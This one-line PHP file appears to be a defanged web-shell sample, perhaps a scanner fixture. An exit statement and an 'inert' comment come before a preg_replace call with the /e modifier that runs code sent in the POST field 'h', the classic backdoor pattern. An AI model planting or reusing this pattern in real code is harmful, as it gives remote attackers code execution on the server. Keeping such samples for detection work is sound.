<?php exit; /* inert */ @preg_replace("/[email]/e", $_POST['h'], "error");
